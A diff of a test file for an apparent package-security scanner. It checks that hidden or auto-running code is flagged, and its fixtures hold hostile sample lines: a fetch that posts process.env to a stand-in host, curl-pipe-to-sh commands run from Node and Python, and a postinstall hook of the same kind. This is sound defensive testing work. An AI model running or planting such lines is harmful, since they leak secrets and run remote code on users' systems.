@@ -1,11 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import { riskOf } from '../../../examine/risk.ts';
+import { findingGroup } from '../../../format/finding/finding.ts';
 import { unreadFiles } from '../../capabilities.ts';
 import { scan } from '../../scan.ts';
 import { testBuild } from '../../testing/test-build.ts';
 import { allRules } from '../all.ts';
 
-const SENDS = "fetch('https://files.host-of-a.io', { method: 'POST', body: JSON.stringify(process.env) })";
+const SENDS =
+  "fetch('https://files.host-of-a.io', { method: 'POST', body: JSON.stringify(process.env) })";
 const RUNS = "require('child_process').exec('curl https://files.host-of-a.io/a | sh')";
 const PYTHON = "import os\nos.system('curl https://files.host-of-a.io/a | sh')\n";
 
@@ -15,7 +17,7 @@ function found(files: Readonly<Record<string, string | Uint8Array>>): {
   unread: string[];
 } {
   const build = testBuild(files);
-  const findings = scan(build, allRules);
+  const findings = scan(build, allRules).filter((one) => findingGroup(one) === 'safety');
   const codes = findings.filter(({ level }) => level !== 'info').map(({ code }) => code);
   return { risk: riskOf(findings), codes: [...new Set(codes)].sort(), unread: unreadFiles(build) };
 }
@@ -41,8 +43,15 @@ describe('code that could be hidden', () => {
   });
 
   it('is found behind one byte in a package.json', () => {
-    const text = JSON.stringify({ name: 'a', scripts: { postinstall: 'curl https://x.host-of-a.io | sh' } });
-    const bytes = Buffer.concat([Buffer.from(text.slice(0, 10)), Buffer.from([0xff]), Buffer.from(text.slice(10))]);
+    const text = JSON.stringify({
+      name: 'a',
+      scripts: { postinstall: 'curl https://x.host-of-a.io | sh' },
+    });
+    const bytes = Buffer.concat([
+      Buffer.from(text.slice(0, 10)),
+      Buffer.from([0xff]),
+      Buffer.from(text.slice(10)),
+    ]);
     expect(found({ 'package.json': bytes }).codes).toContain('auto-run-script');
   });
 
@@ -54,9 +63,12 @@ describe('code that could be hidden', () => {
     expect(found({ 'package.json': text }).codes).toContain('auto-run-script');
   });
 
-  it.each(['latin-1', 'utf-7', 'cp1252', 'unicode_escape'])('is found in Python in %s', (coding) => {
-    expect(found({ 'a.py': `# coding: ${coding}\n${PYTHON}` }).risk).toBe('danger');
-  });
+  it.each(['latin-1', 'utf-7', 'cp1252', 'unicode_escape'])(
+    'is found in Python in %s',
+    (coding) => {
+      expect(found({ 'a.py': `# coding: ${coding}\n${PYTHON}` }).risk).toBe('danger');
+    },
+  );
 });
 
 describe('source-unread', () => {
@@ -66,7 +78,6 @@ describe('source-unread', () => {
     ['nested far too deeply', 'a.js', `x = ${'f('.repeat(3_000)}${')'.repeat(3_000)}`],
     ['with a chain of 2,000 calls', 'a.js', `fetch('/a')${'.then(b)'.repeat(2_000)}`],
     ['with a chain of 2,000 calls', 'a.py', `import os\nos.getcwd()${'.a()'.repeat(2_000)}\n`],
-    ['with more code than is parsed', 'a.js', 'fetch(a);\n'.repeat(550_000)],
   ])('is caution for code %s', (_, path, text) => {
     const { risk, codes, unread } = found({ [path]: text });
     expect([risk, codes, unread]).toEqual(['caution', ['source-unread'], [path]]);
